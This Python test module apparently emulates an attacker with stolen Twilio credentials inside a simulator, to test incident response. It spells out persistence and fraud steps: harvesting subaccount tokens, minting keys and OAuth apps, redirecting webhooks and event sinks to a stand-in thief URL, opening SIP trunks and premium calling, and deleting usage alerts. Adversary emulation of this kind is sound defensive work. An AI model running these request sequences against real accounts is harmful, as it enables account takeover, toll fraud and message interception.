"""A thief who acts between any two requests of the response, with every credential that still opens something.

He knows at once which of his credentials live, wastes no request on dead ones, and reads the tokens of all
subaccounts whenever he can: worse than a real one.
"""

import base64
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import httpx2
import msgspec

from dakkan.model.clock import iso
from dakkan.simulator import truth
from dakkan.simulator.app import Simulator
from dakkan.simulator.transport import InProcess
from respond.conftest import API, LURE, SERVICES, SHOPS_NUMBER, THIEFS_ADDRESS, THIEFS_URL, first

_TOKENS = "https://accounts.twilio.com/v1/AuthTokens"
_EVENTS = "https://events.twilio.com/v1"
_KEYS_RIGHTS = ("/twilio/iam/api-keys/create", "/twilio/iam/api-keys/delete", "/twilio/iam/oauth-apps/create")


@dataclass(frozen=True)
class Held:
    """A credential of his that opens an account now."""

    kind: str
    """As the simulator's truth names it; `oauth-app` for an app."""
    account_sid: str
    sid: str
    secret: str

    @property
    def is_token(self) -> bool:
        return self.kind in ("auth-token", "secondary-auth-token")

    @property
    def makes_keys(self) -> bool:
        return self.is_token or self.kind in ("main-key", "restricted-key", "oauth-app")


class Thief:
    def __init__(self, app: Simulator) -> None:
        self.app = app
        self.transport = InProcess(app, person="thief", address=THIEFS_ADDRESS)
        self.made = 0
        self.opened: set[tuple[str, str]] = set()
        """Account and plane that he opened a country in: the log tells it for ever."""
        self.did: list[str] = []
        """What came off, for the account of a failure."""

    def holds(self) -> list[Held]:
        """Live, not of a suspended subaccount; tokens first, the main account's first of them."""
        known = self.app.world.known["thief"].secrets
        found = [
            Held(each["kind"], each["account_sid"], each["sid"], each["secret"])
            for each in truth.credentials(self.app.world)
            if each["live"] and each["secret"] in known
        ]
        for account in self.app.world.accounts.values():
            for app in account.kind("oauth-app").values():
                if account.works and app.text("secret") in known:
                    found.append(Held("oauth-app", account.sid, app.sid, app.text("secret")))
        return sorted(found, key=lambda held: (not held.is_token, held.account_sid != self.main_sid))

    @property
    def main_sid(self) -> str:
        return self.app.world.main.sid

    def acts(self, act: str, choice: int) -> None:
        """Do `act` in one of the accounts that he reaches; nothing happens when nothing of his opens any."""
        self._reads()
        held = self.holds()
        able = [each for each in held if _ABLE.get(act, _anything)(each)]
        if not able:
            return
        chosen = able[choice % len(able)]
        if _ACTS[act](self, chosen, choice):
            self.did.append(
                f"{self.app.world.now:%H:%M:%S} {act} in {chosen.account_sid[:6]} by {chosen.kind}"
            )
            self._reads()

    def ask(
        self, held: Held, method: str, url: str, form: Any = None, *, as_json: bool = False
    ) -> dict[str, Any]:
        """The answer, or {} for a refusal."""
        header = f"Basic {_basic(held.sid, held.secret)}"
        if held.kind == "oauth-app":
            wanted = {"grant_type": "client_credentials", "client_id": held.sid, "client_secret": held.secret}
            given = self._request("POST", "https://oauth.twilio.com/v2/token", "", wanted)
            header = f"Bearer {given.get('access_token')}"
        return self._request(method, url, header, form, as_json=as_json)

    def _request(
        self, method: str, url: str, header: str, form: Any = None, *, as_json: bool = False
    ) -> dict[str, Any]:
        request = httpx2.Request(
            method,
            url,
            headers={"Authorization": header} if header else {},
            json=form if as_json else None,
            data=None if as_json else form,
        )
        answer = self.transport.handle_request(request)
        content = answer.read()
        if answer.status_code >= 400:
            return {}
        return {"ok": True, **(msgspec.json.decode(content) if content[:1] == b"{" else {})}

    def _reads(self) -> None:
        """All accounts' tokens, with a token that shows them."""
        for held in self.holds():
            if held.is_token:
                for row in self.ask(held, "GET", f"{API}.json?PageSize=100").get("accounts", []):
                    self.app.world.learn("thief", row.get("auth_token"))

    def name(self) -> str:
        self.made += 1
        return f"backup-{self.made}"


Act = Callable[[Thief, Held, int], bool]


def _makes_key(thief: Thief, held: Held, choice: int) -> bool:
    return bool(
        thief.ask(held, "POST", f"{API}/{held.account_sid}/Keys.json", {"FriendlyName": thief.name()})
    )


def _makes_key_like_the_owners(thief: Thief, held: Held, choice: int) -> bool:
    return bool(thief.ask(held, "POST", f"{API}/{held.account_sid}/Keys.json", {"FriendlyName": "prod"}))


def _makes_key_that_makes_keys(thief: Thief, held: Held, choice: int) -> bool:
    form = {
        "AccountSid": held.account_sid,
        "FriendlyName": thief.name(),
        "KeyType": "restricted",
        "Policy": json.dumps({"allow": _KEYS_RIGHTS}),
    }
    return bool(thief.ask(held, "POST", "https://iam.twilio.com/v1/Keys", form))


def _makes_secondary(thief: Thief, held: Held, choice: int) -> bool:
    """Beside the owner's, or in its place."""
    if choice % 2:
        thief.ask(held, "DELETE", f"{_TOKENS}/Secondary")
    return bool(thief.ask(held, "POST", f"{_TOKENS}/Secondary"))


def _promotes_the_owners(thief: Thief, held: Held, choice: int) -> bool:
    """Out of curiosity: the token beside is not his, and he locks himself out."""
    account = thief.app.world.accounts[held.account_sid]
    if account.secondary_token is None or account.secondary_by == "thief":
        return False
    return bool(thief.ask(held, "POST", f"{_TOKENS}/Promote"))


def _makes_subaccount(thief: Thief, held: Held, choice: int) -> bool:
    made = thief.ask(held, "POST", f"{API}.json", {"FriendlyName": thief.name()})
    return bool(made)


def _makes_oauth_app(thief: Thief, held: Held, choice: int) -> bool:
    document = {
        "type": "Client Credential",
        "friendly_name": thief.name(),
        "policy": {"allow": list(_KEYS_RIGHTS), "deny": []},
    }
    url = "https://iam.twilio.com/v1/Account/OAuthApps"
    return bool(thief.ask(held, "POST", url, document, as_json=True))


def _adds_sink(thief: Thief, held: Held, choice: int) -> bool:
    configuration = json.dumps({"destination": THIEFS_URL, "method": "POST"})
    form = {"Description": "m", "SinkType": "webhook", "SinkConfiguration": configuration}
    sink = thief.ask(held, "POST", f"{_EVENTS}/Sinks", form)
    if not sink:
        return False
    kinds = json.dumps({"type": "com.twilio.messaging.inbound-message.received", "schema_version": 1})
    form = {"Description": "m", "SinkSid": sink["sid"], "Types": kinds}
    return bool(thief.ask(held, "POST", f"{_EVENTS}/Subscriptions", form))


def _opens_sip(thief: Thief, held: Held, choice: int) -> bool:
    sip = f"{API}/{held.account_sid}/SIP"
    made = thief.ask(held, "POST", f"{sip}/CredentialLists.json", {"FriendlyName": thief.name()})
    if not made:
        return False
    login = {"Username": "trunk", "Password": "".join(("Drill", "Only", "2026", "Login"))}
    thief.ask(held, "POST", f"{sip}/CredentialLists/{made['sid']}/Credentials.json", login)
    name = {"DomainName": f"{thief.name()}-{held.account_sid[2:8]}.sip.twilio.com", "VoiceUrl": THIEFS_URL}
    domain = thief.ask(held, "POST", f"{sip}/Domains.json", name)
    if domain:
        mappings = f"{sip}/Domains/{domain['sid']}/Auth/Calls/CredentialListMappings.json"
        thief.ask(held, "POST", mappings, {"CredentialListSid": made["sid"]})
    return True


def _adds_trunk(thief: Thief, held: Held, choice: int) -> bool:
    made = thief.ask(held, "POST", "https://trunking.twilio.com/v1/Trunks", {"FriendlyName": thief.name()})
    if not made:
        return False
    form = {
        "FriendlyName": "e",
        "SipUrl": "sip:e@thief.example",
        "Weight": "1",
        "Priority": "1",
        "Enabled": "true",
    }
    return bool(
        thief.ask(held, "POST", f"https://trunking.twilio.com/v1/Trunks/{made['sid']}/OriginationUrls", form)
    )


def _makes_function(thief: Thief, held: Held, choice: int) -> bool:
    name = thief.name()
    url = "https://serverless.twilio.com/v1/Services"
    made = thief.ask(held, "POST", url, {"UniqueName": name, "FriendlyName": name})
    if not made:
        return False
    return bool(thief.ask(held, "POST", f"{url}/{made['sid']}/Functions", {"FriendlyName": "f"}))


def _verifies_caller_id(thief: Thief, held: Held, choice: int) -> bool:
    form = {"PhoneNumber": f"+120255501{choice % 100:02d}"}
    return bool(thief.ask(held, "POST", f"{API}/{held.account_sid}/OutgoingCallerIds.json", form))


def _schedules(thief: Thief, held: Held, choice: int) -> bool:
    """Behind the owner's own service, where the account has one."""
    account = thief.app.world.accounts[held.account_sid]
    services = account.kind("copilot-application")
    if not services:
        return False
    form = {
        "To": f"+141555502{choice % 100:02d}",
        "MessagingServiceSid": next(iter(services)),
        "Body": f"{LURE}{choice % 10}",
        "ScheduleType": "fixed",
        "SendAt": iso(thief.app.world.now + timedelta(hours=20)),
    }
    return bool(thief.ask(held, "POST", f"{API}/{held.account_sid}/Messages.json", form))


def _moves_webhook(thief: Thief, held: Held, choice: int) -> bool:
    account = thief.app.world.accounts[held.account_sid]
    for number in account.kind("phone-number").values():
        url = f"{API}/{held.account_sid}/IncomingPhoneNumbers/{number.sid}.json"
        return bool(thief.ask(held, "POST", url, {"SmsUrl": THIEFS_URL}))
    return False


def _moves_service(thief: Thief, held: Held, choice: int) -> bool:
    account = thief.app.world.accounts[held.account_sid]
    for service in account.kind("copilot-application").values():
        return bool(thief.ask(held, "POST", f"{SERVICES}/{service.sid}", {"InboundRequestUrl": THIEFS_URL}))
    return False


def _opens_country(thief: Thief, held: Held, choice: int) -> bool:
    thief.opened.add((held.account_sid, "messaging" if choice % 2 else "voice"))
    if choice % 2:
        item = json.dumps({"country_code": "LV", "type": "country", "enabled": True})
        url = "https://accounts.twilio.com/v1/Messaging/GeoPermissions"
        return bool(thief.ask(held, "PATCH", url, {"Permissions": item}))
    if held.account_sid != thief.main_sid:
        form = {"DialingPermissionsInheritance": "false"}
        thief.ask(held, "POST", "https://voice.twilio.com/v1/Settings", form)
    update = json.dumps([{"iso_code": "LV", "low_risk_numbers_enabled": "true"}])
    url = "https://voice.twilio.com/v1/DialingPermissions/BulkCountryUpdates"
    return bool(thief.ask(held, "POST", url, {"UpdateRequest": update}))


def _buys_number(thief: Thief, held: Held, choice: int) -> bool:
    form = {"PhoneNumber": f"+1251555{choice % 90 + 110:04d}", "SmsUrl": THIEFS_URL}
    return bool(thief.ask(held, "POST", f"{API}/{held.account_sid}/IncomingPhoneNumbers.json", form))


def _calls(thief: Thief, held: Held, choice: int) -> bool:
    form = {"To": "+37126550100", "From": SHOPS_NUMBER, "Twiml": '<Response><Pause length="900"/></Response>'}
    return bool(thief.ask(held, "POST", f"{API}/{held.account_sid}/Calls.json", form))


def _removes_trigger(thief: Thief, held: Held, choice: int) -> bool:
    for sid in thief.app.world.accounts[held.account_sid].kind("usage-trigger"):
        return bool(thief.ask(held, "DELETE", f"{API}/{held.account_sid}/Usage/Triggers/{sid}.json"))
    return False


def _resumes_subaccount(thief: Thief, held: Held, choice: int) -> bool:
    """One of his that was suspended."""
    for account in thief.app.world.accounts.values():
        if account.made_by == "thief" and account.own_status == "suspended":
            return bool(thief.ask(held, "POST", f"{API}/{account.sid}.json", {"Status": "active"}))
    return False


_ACTS: dict[str, Act] = {
    "key": _makes_key,
    "key like the owner's": _makes_key_like_the_owners,
    "key that makes keys": _makes_key_that_makes_keys,
    "secondary": _makes_secondary,
    "subaccount": _makes_subaccount,
    "oauth app": _makes_oauth_app,
    "sink": _adds_sink,
    "sip": _opens_sip,
    "trunk": _adds_trunk,
    "function": _makes_function,
    "caller id": _verifies_caller_id,
    "schedule": _schedules,
    "webhook": _moves_webhook,
    "service": _moves_service,
    "country": _opens_country,
    "number": _buys_number,
    "call": _calls,
    "trigger": _removes_trigger,
    "resume": _resumes_subaccount,
    "promote": _promotes_the_owners,
}
ACTS = tuple(_ACTS)


def _anything(held: Held) -> bool:
    return held.kind not in ("restricted-key", "oauth-app")


def _makes_keys(held: Held) -> bool:
    return held.makes_keys


_ABLE: dict[str, Callable[[Held], bool]] = {
    "key": _makes_keys,
    "key like the owner's": _makes_keys,
    "key that makes keys": _makes_keys,
    "oauth app": _makes_keys,
    "secondary": lambda held: held.is_token,
    "subaccount": lambda held: held.is_token or held.kind == "main-key",
    "resume": lambda held: held.is_token,
    "promote": lambda held: held.is_token,
}


def _basic(user: str, secret: str) -> str:
    return base64.b64encode(f"{user}:{secret}".encode()).decode()


def of_thieves(app: Simulator) -> Iterator[str]:
    """Footholds that are left, in words, for the account of a failure."""
    for each in truth.footholds(app.world):
        yield f"{each['kind']} {each['sid'][:10]} in {each['account_sid'][:8]}"


__all__ = ["ACTS", "Held", "Thief", "first", "of_thieves"]
